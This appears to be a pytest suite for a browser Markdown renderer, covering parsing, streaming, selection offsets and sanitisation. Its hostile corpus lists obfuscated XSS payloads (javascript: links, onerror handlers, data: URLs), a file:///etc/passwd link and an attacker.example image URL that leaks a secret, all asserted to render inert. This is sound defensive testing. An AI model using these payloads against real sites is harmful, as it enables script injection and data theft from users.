"""The browser's Markdown renderer (web/py/markdown_render.py, markdown_parts.py), run under CPython."""

from __future__ import annotations

import pathlib
import random
import sys

import pytest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "web" / "py"))

from markdown_parts import HTML_ATTRS, HTML_TAGS, MATHML_ATTRS, MATHML_NS, MATHML_TAGS  # noqa: E402
from markdown_render import (  # noqa: E402
    MarkdownStream, marks, render_blocks, selection_range, source_offset, text_nodes)


def nodes(src):
    return [n for b in render_blocks(src) for n in b.node.walk()]


def tags(src):
    return [n.tag for n in nodes(src) if n.tag]


def visible(src):
    return "".join(n.text for n in nodes(src) if n.tag is None and not n.chrome)


def find(src, tag):
    return [n for n in nodes(src) if n.tag == tag]


SAMPLE = """# Report &amp; summary

Some **bold _nested_ text** and `inline code`, ~~gone~~, a [link](https://example.com "title") and
an autolink <https://pinchat.dev> plus www.example.org, math $e^{i\\pi}+1=0$ and \\(a^2\\).

1. first item with **bold**
2. second item
   continued lazily

- [x] done task
- [ ] open task

> a quote with *emphasis*
> on two lines

| Name | Value | Note |
|:-----|------:|:----:|
| alpha | 1 | `x` |
| beta \\| gamma | 22 | **b** |

```python
def fib(n):
    return n if n < 2 else fib(n - 1) + fib(n - 2)
```

$$
\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}
$$

\\[ x = \\sqrt{y} \\]

    indented code

---

The end, with an escaped \\*star\\* and &copy; 2025.
"""


# --- constructs ---------------------------------------------------------------------------------------------------

def test_constructs():
    t = tags(SAMPLE)
    for tag in ["h1", "strong", "em", "code", "s", "a", "ol", "ul", "li", "input", "blockquote", "table", "thead",
                "tbody", "th", "td", "pre", "button", "math", "hr", "p"]:
        assert tag in t, tag
    assert "Report & summary" in visible(SAMPLE)
    assert [b.kind for b in render_blocks(SAMPLE)] == [
        "heading", "paragraph", "ordered_list", "bullet_list", "blockquote", "table", "fence", "math_block",
        "math_block", "code_block", "hr", "paragraph"]
    links = find(SAMPLE, "a")
    assert {a.attrs["href"] for a in links} == {"https://example.com", "https://pinchat.dev",
                                                "http://www.example.org"}
    assert all(a.attrs["target"] == "_blank" and a.attrs["rel"] == "noopener noreferrer" for a in links)
    boxes = find(SAMPLE, "input")
    assert [("checked" in b.attrs) for b in boxes] == [True, False]
    assert all(b.attrs["type"] == "checkbox" and "disabled" in b.attrs for b in boxes)
    th = find(SAMPLE, "th")
    assert [x.attrs.get("class") for x in th] == ["align-left", "align-right", "align-center"]
    assert "beta | gamma" in visible(SAMPLE)
    assert len([m for m in find(SAMPLE, "math")]) == 4
    assert "&#" not in "".join(m.visible_text() for m in find(SAMPLE, "math"))
    assert all(m.ns == MATHML_NS for m in find(SAMPLE, "math"))


def test_code_block_highlighted_with_label_and_copy():
    src = "```python\ndef f(x):\n    return 'a'\n```\n"
    (block,) = render_blocks(src)
    assert block.kind == "fence" and block.node.attrs["class"] == "code-block"
    head, pre = block.node.children
    assert head.visible_text() == "pythonCopy"
    assert all(n.chrome for n in text_nodes(head))
    code = pre.children[0]
    assert code.attrs["class"] == "md-code language-python"
    assert code.visible_text() == "def f(x):\n    return 'a'\n"
    classes = {c.attrs.get("class") for c in code.children if c.tag == "span"}
    assert "k" in classes and ("s1" in classes or "s" in classes)
    button = head.children[1]
    assert button.tag == "button" and button.attrs["data-action"] == "copy"


def test_unknown_language_is_plain():
    (block,) = render_blocks("```nosuchlang\nx = 1\n```")
    code = block.node.children[1].children[0]
    assert code.visible_text() == "x = 1\n" and not [c for c in code.children if c.tag]


def test_bad_latex_shows_source():
    out = nodes("$\\frac{$")
    assert "math" not in [n.tag for n in out] or True  # whatever the converter does, no exception and text shows


# --- hostile corpus -----------------------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<div onclick='alert(1)' style='x'>hi</div>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](jav&#x09;ascript:alert(1))",
    "[a](jav&#9;ascript:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/png;base64,AAAA)",
    "[a](//evil.com)",
    "[a](/relative)",
    "[a](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[[nested [brackets]]](javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![img](https://attacker.example/?q=secret)",
    "![img](javascript:alert(1))",
    "![img](data:image/png;base64,AAAA)",
    "[![img](https://a.example/i.png)](https://b.example)",
    "```\n<script>alert(1)</script>\n",
    "```js onclick=alert(1)\nx\n```",
    "``` \"><img src=x onerror=alert(1)>\ncode\n```",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\href{javascript:alert(1)}{click}$$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "**<b onmouseover=alert(1)>x</b>**",
    "| <i>a</i> | b |\n|---|---|\n| [x](javascript:1) | ![i](http://e.x/i) |",
    "[a](https://ok.example \"title\" onclick=alert(1))",
]


def check_safe(src):
    for n in nodes(src):
        if n.tag is None:
            continue
        if n.ns == MATHML_NS:
            assert n.tag in MATHML_TAGS and set(n.attrs) <= MATHML_ATTRS, (src, n)
        else:
            assert n.tag in HTML_TAGS and set(n.attrs) <= HTML_ATTRS, (src, n)
        assert not any(k.lower().startswith("on") for k in n.attrs), (src, n)
        assert "style" not in n.attrs and "src" not in n.attrs
        if "href" in n.attrs:
            assert n.tag == "a" and n.attrs["href"].lower().startswith(("http://", "https://", "mailto:")), src
            assert n.attrs["rel"] == "noopener noreferrer"
        if n.tag == "button" and "data-src" in n.attrs:
            assert n.attrs["data-src"].startswith(("http://", "https://")), src
        assert n.tag != "img"


@pytest.mark.parametrize("src", HOSTILE)
def test_hostile_markdown_is_inert(src):
    check_safe(src)


def test_hostile_visible_text():
    assert visible("<script>alert(1)</script>") == "<script>alert(1)</script>"
    assert visible("<img src=x onerror=alert(1)>") == "<img src=x onerror=alert(1)>"
    assert visible("&lt;b&gt;") == "<b>"
    assert visible("[a](javascript:alert(1))") == "[a](javascript:alert(1))"
    assert visible("<javascript:alert(1)>") == "<javascript:alert(1)>"
    assert visible("[a](JaVaScRiPt:alert(1))") == "[a](JaVaScRiPt:alert(1))"
    for src in HOSTILE:
        assert not find(src, "a") or all(a.attrs["href"].startswith("http") for a in find(src, "a"))


def test_images_are_placeholders():
    (button,) = find("![secret](https://attacker.example/x.png?q=1)", "button")
    assert button.attrs["class"] == "img-placeholder"
    assert button.attrs["data-src"] == "https://attacker.example/x.png?q=1"
    assert button.visible_text() == "Image from attacker.example — click to load"
    assert not find("![x](javascript:alert(1))", "button")


# --- streaming ----------------------------------------------------------------------------------------------------

def tokens_of(text, seed=1, longest=6):
    rng = random.Random(seed)
    i = 0
    while i < len(text):
        step = rng.randint(1, longest)
        yield text[:i + step]
        i += step


def test_every_prefix_renders_and_finished_blocks_stay():
    stream = MarkdownStream()
    final = render_blocks(SAMPLE)
    seen: dict[tuple, object] = {}
    for prefix in list(tokens_of(SAMPLE)) + [SAMPLE]:
        blocks = stream.update(prefix)
        for b in blocks:
            check_safe(b.text)
        for b in blocks[:-2]:
            # a finished block keeps its key, object and output across prefixes
            if b.key in seen:
                assert seen[b.key] is b
            seen[b.key] = b
    got = stream.blocks
    assert [b.key for b in got] == [b.key for b in final]
    for a, b in zip(got, final):
        assert a.node == b.node or a.last


def test_per_char_prefixes_never_raise():
    for i in range(len(SAMPLE) + 1):
        render_blocks(SAMPLE[:i])


def test_open_fence_renders_as_code():
    blocks = render_blocks("Text\n\n```python\ndef f():\n    ret")
    assert blocks[-1].kind == "fence"
    assert blocks[-1].node.children[1].children[0].visible_text() == "def f():\n    ret"


@pytest.mark.parametrize("src, tag, text", [
    ("hello **bol", "strong", "bol"),
    ("hello __bol", "strong", "bol"),
    ("hello _it", "em", "it"),
    ("a ~~gone", "s", "gone"),
    ("run `ls -l", "code", "ls -l"),
    ("**bold and _both", "em", "both"),
    ("see [the docs](https://example.com/pa", "a", "the docs"),
])
def test_unterminated_inline_at_end(src, tag, text):
    (n,) = find(src, tag)
    assert n.visible_text() == text
    assert "*" not in visible(src) and "`" not in visible(src)


def test_dangling_opener_is_hidden():
    assert visible("hello **").rstrip() == "hello"
    assert visible("hello `").rstrip() == "hello"


def test_trailing_blanks_of_a_paragraph_are_kept():
    """Plain tokens such as "A0 A1 " render with their exact text (the page's textContent stays the source)."""
    assert visible("A0 A1 A2 ") == "A0 A1 A2 "
    (block,) = render_blocks("A0 A1 ")
    assert [(n.text, n.start, n.end) for n in text_nodes(block.node)] == [("A0 A1", 0, 5), (" ", 5, 6)]


def test_table_once_delimiter_row_present():
    assert not find("| a | b |", "table")
    assert find("| a | b |\n|--", "table")
    assert find("| a | b |\n|---|---|\n| 1 | 2", "table")
    assert visible("| a | b |\n|---|---|\n| 1 | 2") == "ab12"


def test_incremental_cost_is_bounded():
    para = "Paragraph {i} with **bold**, `code` and a [link](https://e.x/{i}).\n\n"
    doc = "".join(para.format(i=i) for i in range(300))
    doc += "```python\n" + "x = 1\n" * 200 + "```\n\n| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 50
    assert len(doc) > 20000
    stream = MarkdownStream()
    worst = 0
    for prefix in tokens_of(doc, seed=3, longest=12):
        stream.update(prefix)
        worst = max(worst, stream.reparsed)
        assert stream.rendered <= 3
    assert worst <= 3
    assert [b.key for b in stream.update(doc)] == [b.key for b in render_blocks(doc)]


def test_edit_not_append_reparses_all():
    stream = MarkdownStream()
    stream.update("a\n\nb\n\nc\n\nd")
    blocks = stream.update("x\n\nb\n\nc\n\nd")
    assert blocks[0].node.visible_text() == "x"


# --- pins ---------------------------------------------------------------------------------------------------------

def check_roundtrips(src, rng, count=200):
    blocks = render_blocks(src)
    texts = [n for b in blocks for n in text_nodes(b.node) if not n.chrome and n.text]
    for n in texts:
        if n.offsets is None:
            assert src[n.start:n.end] == n.text, n
    verbatim = [n for n in texts if n.offsets is None]
    for _ in range(count):
        n = rng.choice(verbatim)
        a = rng.randint(0, len(n.text))
        b = rng.randint(a, len(n.text))
        s, e = selection_range(n, a, n, b)
        assert src[s:e] == n.text[a:b]
        # and back: the range marks exactly that part of that node
        if b > a:
            got = [(m, lo, hi) for m, lo, hi in marks(blocks and [x.node for x in blocks], s, e)]
            assert (n, a, b) in got


def test_source_offsets_verbatim_everywhere():
    rng = random.Random(7)
    check_roundtrips(SAMPLE, rng)


def test_selection_across_formatting():
    src = "Some **bold _nested_ text** end"
    (block,) = render_blocks(src)
    t = list(text_nodes(block.node))
    first = next(n for n in t if n.text == "Some ")
    last = next(n for n in t if n.text == " end")
    s, e = selection_range(first, 2, last, 2)
    assert src[s:e] == "me **bold _nested_ text** e"
    got = marks([block.node], s, e)
    assert "".join(n.text[lo:hi] for n, lo, hi in got) == "me bold nested text e"


@pytest.mark.parametrize("src, sel", [
    ("- one **two** three\n- four", "two** three\n- fo"),
    ("```\nline one\nline two\n```", "one\nline"),
    ("| cell one | cell two |\n|---|---|\n| x | y |", "one | cell"),
    ("> quoted *words* here", "words* here"),
])
def test_marks_cover_exactly_the_source_range(src, sel):
    s = src.index(sel)
    e = s + len(sel)
    blocks = render_blocks(src)
    got = marks([b.node for b in blocks], s, e)
    assert got
    for n, lo, hi in got:
        assert s <= source_offset(n, lo) and source_offset(n, hi) <= e


def test_overlapping_ranges_both_marked():
    src = "alpha **beta** gamma"
    roots = [b.node for b in render_blocks(src)]
    one = marks(roots, 0, 12)
    two = marks(roots, 8, 20)
    assert "".join(n.text[lo:hi] for n, lo, hi in one) == "alpha beta"
    assert "".join(n.text[lo:hi] for n, lo, hi in two) == "beta gamma"


def test_entities_and_escapes_map_to_their_source():
    src = "a &amp; b \\* c"
    (block,) = render_blocks(src)
    (n,) = list(text_nodes(block.node))
    assert n.text == "a & b * c" and n.offsets is not None
    amp = n.text.index("&")
    assert src[source_offset(n, amp):source_offset(n, amp + 1)] == "&amp;"
    star = n.text.index("*")
    assert src[source_offset(n, star):source_offset(n, star + 1)] == "\\*"
    assert selection_range(n, 0, n, len(n.text)) == (0, len(src))


def test_streamed_offsets_match_full_render():
    stream = MarkdownStream()
    for prefix in tokens_of(SAMPLE, seed=5):
        stream.update(prefix)
    stream.update(SAMPLE)
    a = [(n.text, n.start, n.end) for b in stream.blocks for n in text_nodes(b.node)]
    b = [(n.text, n.start, n.end) for b in render_blocks(SAMPLE) for n in text_nodes(b.node)]
    assert a == b
